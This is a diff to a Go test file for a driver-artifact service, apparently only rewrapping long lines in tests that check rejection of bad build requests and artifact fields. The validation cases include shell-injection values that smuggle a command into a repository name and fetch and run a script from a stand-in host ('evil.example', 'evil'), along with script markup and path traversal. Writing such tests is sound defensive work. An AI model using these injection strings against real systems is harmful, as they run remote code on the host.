@@ -51,9 +51,11 @@ func TestUnknownBuildIsLookedUp(t *testing.T) {
 	before := len(q.jobs)
 	_, err := c.Request(t.Context(), api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "999.1", Flavour: "open"})
 	if !fault.Is(err, fault.InputMissing) || len(q.jobs) != before {
-		t.Errorf("Request(impossible build, exact version) = %v, %d jobs; want input-missing and none", err, len(q.jobs)-before)
+		t.Errorf("Request(impossible build, exact version) = %v, %d jobs; want input-missing and none", err,
+			len(q.jobs)-before)
 	}
-	_, err = c.Request(t.Context(), api.BuildRequest{BuildID: "19216.104.25", Board: "jacuzzi", Driver: "999.1", Flavour: "open"})
+	_, err = c.Request(t.Context(),
+		api.BuildRequest{BuildID: "19216.104.25", Board: "jacuzzi", Driver: "999.1", Flavour: "open"})
 	if !fault.Is(err, fault.InputMissing) {
 		t.Errorf("Request(board that the build is not for) = %v; want input-missing", err)
 	}
@@ -78,13 +80,17 @@ func TestUnknownBuildIsLookedUp(t *testing.T) {
 func TestArtifactIsChecked(t *testing.T) {
 	t.Parallel()
 	good := func() api.NewArtifact {
-		return api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA, Driver: target.Driver{Version: v261, Flavour: target.Open},
-			Repository: "registry.example.com:5000/prebake/driver", Release: "6.1.0-47-cloud-amd64", Kernels: []target.Kernel{{BuildID: first, Board: "lakitu"}}}
+		return api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
+			Driver:     target.Driver{Version: v261, Flavour: target.Open},
+			Repository: "registry.example.com:5000/prebake/driver", Release: "6.1.0-47-cloud-amd64",
+			Kernels: []target.Kernel{{BuildID: first, Board: "lakitu"}}}
 	}
 	rows := map[string]func(a *api.NewArtifact){
-		"release of 100 kB":         func(a *api.NewArtifact) { a.Release = strings.Repeat("6", 100_000) },
-		"release with markup":       func(a *api.NewArtifact) { a.Release = "6.1<script>" },
-		"host with a command":       func(a *api.NewArtifact) { a.Repository = `x$(curl$IFS"evil.example">a;sh<a)/prebake/driver` },
+		"release of 100 kB":   func(a *api.NewArtifact) { a.Release = strings.Repeat("6", 100_000) },
+		"release with markup": func(a *api.NewArtifact) { a.Release = "6.1<script>" },
+		"host with a command": func(a *api.NewArtifact) {
+			a.Repository = `x$(curl$IFS"evil.example">a;sh<a)/prebake/driver`
+		},
 		"host without a name":       func(a *api.NewArtifact) { a.Repository = "-x/prebake/driver" },
 		"repository with a command": func(a *api.NewArtifact) { a.Repository = "x; curl http://evil/|sh #" },
 		"repository that climbs":    func(a *api.NewArtifact) { a.Repository = "/../x" },
